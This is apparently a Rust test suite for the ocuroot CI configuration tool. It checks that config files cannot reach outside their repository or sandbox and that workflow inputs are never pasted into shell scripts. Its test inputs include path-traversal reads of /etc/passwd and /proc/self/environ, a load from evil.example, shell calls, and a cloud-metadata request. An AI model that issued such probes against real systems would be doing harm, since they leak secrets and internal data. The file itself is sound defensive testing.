//! Config files that reach for what is not theirs.

use std::collections::BTreeMap;

use ocuroot::config::{Denied, Limits, SourceTree, evaluate, invoke};
use ocuroot::model::{FunctionName, Invocation, Outcome};

const FILE: &str = "api/release.ocu.star";

fn tree(text: &str) -> SourceTree {
    let mut tree = SourceTree::new();
    tree.insert(FILE, text);
    tree.insert("lib.star", "x = 1\n");
    tree.insert_path("api/data.txt");
    tree.mark_complete();
    tree
}

/// What comes of a statement of a file: the first finding, or that there is none.
fn stated(statement: &str) -> String {
    let text = format!("ocuroot(\"0.3.0\")\ndef f():\n    return done()\n{statement}\n");
    let found = evaluate(&tree(&text), FILE, &[], &Limits::default());
    let first = found.diagnostics.into_iter().find(|found| found.is_error());
    first.map_or_else(|| "allowed".to_owned(), |found| found.message)
}

/// What comes of a call within a function, on the server.
fn called(expression: &str) -> String {
    let text =
        format!("ocuroot(\"0.3.0\")\ndef f():\n    return done(outputs={{\"x\": {expression}}})\n");
    let function = FunctionName {
        file: FILE.to_owned(),
        name: "f".to_owned(),
    };
    let (inputs, limits) = (BTreeMap::new(), Limits::default());
    match invoke(
        &tree(&text),
        FILE,
        &function,
        &inputs,
        &[],
        &Denied,
        &limits,
    ) {
        Invocation::NeedsHost { capability } => format!("needs a job: {capability}"),
        Invocation::Finished {
            outcome: Outcome::Failed { message },
            ..
        } => message,
        Invocation::Finished { outcome, .. } => format!("allowed: {outcome:?}"),
    }
}

#[test]
fn a_config_file_cannot_name_what_lies_outside_its_repository() {
    let statements = [
        "load(\"../../etc/passwd\", \"x\")",
        "load(\"/etc/passwd\", \"x\")",
        "load(\"//../lib.star\", \"x\")",
        "load(\"//api/../../lib.star\", \"x\")",
        "load(\"https://evil.example/lib.star\", \"x\")",
        "load(\"file:///etc/passwd\", \"x\")",
        "task(workflow(\"../../other.yml\"), name=\"t\")",
        "task(workflow(\"/etc/passwd\"), name=\"t\")",
        "task(workflow(\"a/../b.yml\"), name=\"t\")",
        "runner(\"../../other.yml\")",
        "watch([\"../**\"])",
        "watch([\"/etc/**\"])",
        "register_environment(environment(\"../production\", {}))",
        "register_environment(environment(\"a/b\", {}))",
        "task(f, name=\"../../x\")",
        "task(f, name=\"a/../../b\")",
        "task(f, name=\"a@b\")",
        "task(f, name=\"t\", inputs={\"x\": input(ref=\"../../x/@/task/t\")})",
    ];
    let table = statements.map(|statement| format!("{statement}\n    {}\n", stated(statement)));
    insta::assert_snapshot!(table.concat());
}

#[test]
fn on_the_server_nothing_leaves_the_sandbox() {
    let expressions = [
        "host.shell(\"id\")",
        "host.env()",
        "read(\"../../etc/passwd\")",
        "read(\"/etc/passwd\")",
        "read(\"/proc/self/environ\")",
        "read_dir(\"..\")",
        "write(\"../x\", \"x\")",
        "http.get(\"http://169.254.169.254/latest/meta-data/\")",
        "http.get(\"http://127.0.0.1:3000/metrics\")",
        "http.get(\"file:///etc/passwd\")",
    ];
    let table = expressions.map(|call| format!("{call}\n    {}\n", called(call)));
    insta::assert_snapshot!(table.concat());
}

/// `${{ … }}` within a script is pasted into it before the shell reads it: whoever chooses the value chooses the command.
#[test]
fn no_input_of_an_action_or_workflow_is_put_into_a_script() {
    for (name, text) in [
        ("action.yml", ocuroot::ACTION),
        ("ocuroot.yml", ocuroot::RUNNER_WORKFLOW),
    ] {
        let mut script = None;
        for line in text.lines() {
            let depth = line.len() - line.trim_start().len();
            if script.is_some_and(|begin| depth <= begin && !line.trim().is_empty()) {
                script = None;
            }
            let key = line.trim_start().trim_start_matches("- ");
            // The job and the dimension of the matrix that are called so, and the input of the action.
            let is_no_script = [
                "run:",
                "run: ${{ fromJSON(inputs.ocuroot_runs) }}",
                "run: ${{ matrix.run.id }}",
            ];
            if key.starts_with("run:") && !is_no_script.contains(&key) {
                script = Some(depth);
            }
            assert!(script.is_none() || !line.contains("${{"), "{name}: {line}");
        }
    }
}
